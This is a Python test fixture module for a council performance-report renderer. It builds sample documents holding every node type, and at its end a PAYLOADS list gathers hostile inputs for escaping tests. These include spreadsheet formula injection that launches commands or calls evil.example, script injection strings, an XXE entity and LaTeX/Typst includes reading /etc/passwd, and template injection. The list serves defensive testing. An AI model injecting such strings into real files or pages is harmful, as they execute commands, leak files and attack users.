"""Small documents that hold every kind of node, for tests of every form."""

from collections.abc import Callable
from datetime import UTC, datetime
from decimal import Decimal

from goldenthread.documents.nodes import (
    STATUSES,
    Absent,
    Box,
    Branch,
    Bullet,
    Callout,
    Card,
    Cards,
    Column,
    Details,
    Diagram,
    Document,
    Facts,
    Folded,
    Heading,
    Key,
    Link,
    Listing,
    Matrix,
    MatrixCell,
    Meta,
    Number,
    Paragraph,
    Point,
    Quiet,
    Rank,
    Ranking,
    Row,
    Section,
    StatusMark,
    Strip,
    StripPart,
    Strong,
    Table,
    Text,
    Travel,
    Tree,
    TrendChart,
)

AT = datetime(2014, 8, 10, 11, 0, tzinfo=UTC)
Words = Callable[[str], str]


def as_it_is(text: str) -> str:
    return text


def meta(status: str = "draft", words: Words = as_it_is) -> Meta:
    return Meta(
        council=words("Hart District Council"),
        period=words("Quarter 1 of 2014 to 2015"),
        as_at=AT,
        issued=datetime(2014, 8, 12, 8, 30, tzinfo=UTC),
        version=words("7"),
        status=status,
        source=words("The council's own figures"),
        notes=[words("One figure is not confirmed.")],
    )


def indicators(words: Words = as_it_is) -> Table:
    """Two indicators with figures, and one without."""
    columns = [
        Column(words("Indicator")),
        Column(words("Against target"), "chart"),
        Column(words("Value"), "number"),
        Column(words("Aim"), "number"),
        Column(words("Status"), "status"),
        Column(words("Travel"), "travel"),
    ]
    rows = [
        Row(
            [
                Link(words("Calls answered"), words("/hart/indicators/CS01")),
                Bullet(Decimal("95.9"), Decimal(90), status="green", summary=words("95.9 against 90")),
                Number(Decimal("95.9"), "95.9%", "%", strong=True),
                Number(Decimal(90), "90%", "%"),
                StatusMark("green", words("On target")),
                Travel("improving", words("better"), up=True),
            ]
        ),
        Row(
            [
                words("Fall in violence"),
                Bullet(Decimal("-16.0"), Decimal(5), status="red"),
                Number(Decimal("-16.0"), unit="%"),
                Number(Decimal(5), unit="%"),
                StatusMark("red", words("Off target")),
                Travel("worsening", words("worse"), up=False),
            ]
        ),
        Row(
            [
                words("Missed collections"),
                Bullet(None, Decimal(40)),
                Absent(words("[x]"), words("not confirmed")),
                Number(Decimal(40)),
                StatusMark("not_available", words("No data")),
                Travel("no_comparison", words("no comparison")),
            ]
        ),
    ]
    return Table(words("All indicators"), columns, rows, note=words("Figures are for April to June."))


def trend(words: Words = as_it_is) -> TrendChart:
    points = [
        Point(words("Jan to Mar 2014"), Decimal("99.3")),
        Point(words("Apr to Jun 2014"), Decimal("65.3"), "red", words("")),
    ]
    return TrendChart(words("HR questions"), words("It fell to 65.3%."), points, [Decimal(95)] * 2, "%", 1)


def ranking(words: Words = as_it_is) -> Ranking:
    ranks = [
        Rank(words("Easthaven"), Decimal("59.9"), words("")),
        Rank(words("Hart"), Decimal("58.8"), words(""), is_own=True),
        Rank(words("Gosmouth"), Decimal("28.7"), words("")),
    ]
    return Ranking(words("Waste recycled"), words("Hart is second of three."), ranks, Decimal("58.8"), unit="%")


def diagram(words: Words = as_it_is) -> Diagram:
    boxes = [
        Box("vision", words("A place to be proud of"), href="/hart/thread/vision/1/"),
        Box("homes", words("Good homes"), words("12 objectives"), "/hart/thread/priority/2/"),
        Box("health", words("Good health"), words("")),
        Box("empty", words("Fewer empty homes"), "", "", "red", True, words("Off target")),
    ]
    rows = [["vision"], ["homes", "health"], ["empty"]]
    arrows, light = [("homes", "vision"), ("health", "vision"), ("empty", "homes")], [("empty", "health")]
    return Diagram(words("The way to the vision"), words(""), boxes, rows, arrows, light, "serves")


def tree(words: Words = as_it_is) -> Tree:
    plans = [
        Box("plan", words("Housing plan"), words("Service plan"), "/hart/thread/plan/5/"),
        Box("more", words("2 more")),
    ]
    homes = Branch(
        words("Good homes"), words("Theme"), "/hart/thread/priority/2/", words(""),
        [(words("12"), words("objectives"))],
        [StripPart("green", words("On target"), 3), StripPart("red", words("Off target"), 1)], leaves=plans,
        light=["more"], branches=[Branch(words("Fewer empty homes"), status="red", word=words("Off target"))],
        group=words("Themes"),
    )  # fmt: skip
    health = Branch(words("Good health"), torn=words("Nothing beneath it"), group=words("Aims"))
    vision = Branch(
        words("A place to be proud of"), href="/hart/thread/vision/1/", branches=[homes, health], strong=True
    )
    loose = [Branch(words("Lead to no theme"), counts=[(words("2"), words("actions"))])]
    return Tree(words("The thread"), words(""), [vision], loose, words("Cut off"), words("planned in"))


def matrix(words: Words = as_it_is) -> Matrix:
    cells = [
        [MatrixCell(words("5 amber"), "amber"), MatrixCell(words("10 red"), "red", "/hart/risks/?at=2-5", 3)],
        [MatrixCell(words("1 green"), "green", "/hart/risks/?at=1-1", 1), MatrixCell(words("2 green"), "green")],
    ]
    across, down = [words("Rare"), words("Likely")], [words("Severe"), words("Slight")]
    return Matrix(words("Where risks stand"), words(""), across, down, cells, (words("Likelihood"), words("Impact")))


def strip(words: Words = as_it_is) -> Strip:
    parts = [
        StripPart(code, words(code.replace("_", " ").capitalize()), count)
        for code, count in zip(STATUSES, (0, 27, 6, 8, 3, 0, 0, 0, 1, 0, 0, 0, 0), strict=True)
    ]
    return Strip(parts, words("Indicators by status"))


def everything(words: Words = as_it_is, *, status: str = "draft") -> Document:
    """A document with every node, each text passed through `words`."""
    nodes = [
        Paragraph([Strong(words("27 of 41 are on target")), words(", 8 are not.")], "lead"),
        Paragraph(Text(words("A paragraph.\n\nAnother one.")), words("quiet")),
        strip(words),
        Section(words("Needs attention"), [Cards([_card(words)]), _card(words)]),
        Section(
            words("Off target"),
            [
                Heading(4, words("A heading that asks for too much")),
                Callout(words("Why this colour?"), [words("It is short of its target.")], words("bad")),
                trend(words),
                ranking(words),
                diagram(words),
                matrix(words),
                tree(words),
                Bullet(Decimal(3), Decimal(4), summary=words("3 against 4")),
            ],
            page_break=True,
        ),
        indicators(words),
        Table(words("Nothing here"), [Column(words("Empty"))], []),
        Key([StatusMark("green", words("On target")), (Absent(words("[x]")), words(" not available"))]),
        Facts(
            [
                (words("Owner"), [words("HR manager "), Link(words("write"), "mailto:hr@example.org")]),
                (words("Why"), Folded(words("Why this?"), words("It is short."), words("HR questions"))),
            ]
        ),
        Listing([words("one"), Quiet(words("two"))]),
        Listing([words("first")], ordered=True),
        Details(words("How it was judged"), [Paragraph(words("Plainly."))]),
    ]
    return Document(words("Quarterly report"), nodes, meta(status, words))


def _card(words: Words) -> Card:
    return Card(
        words("HR questions"),
        words("/hart/indicators/HR02"),
        Number(Decimal("65.3"), "65.3%", "%"),
        words("against 95%"),
        words("A system change."),
        words("Human Resources"),
        "red",
    )


def figures(values: list[tuple[Decimal, str]]) -> Document:
    """A document whose table holds the values with their units."""
    rows = [Row([f"Row {place}", Number(value, unit=unit)]) for place, (value, unit) in enumerate(values)]
    table = Table("Figures", [Column("Name"), Column("Value", "number")], rows)
    return Document("Figures", [table], meta())


PAYLOADS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "\N{NO-BREAK SPACE}=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    '=HYPERLINK("http://evil.example","x")',
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML(CONCAT("http://evil.example"),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "]]><w:p/>",
    "<!--",
    "</desc></svg><script>",
    "&lt;b&gt;&amp;",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    '#read("/etc/passwd")',
    '#eval("1")',
    "$ x^2 $ *bold* _it_ `raw` @ref <label>",
    "\\input{/etc/passwd}",
    "{{ 7*7 }}{% debug %}",
    "%s %n {0} {number} {alt}",
    "a\x01\x02\x08\x0b\x0c\x0e\x1f\x7f\ufffe\uffffb",
    "\ud800 lone surrogate",
    "&P&N&[File]",
    "\u202egnp.exe",
    "x" * 300,
    "[Bad]:*?/\\'name'",
)
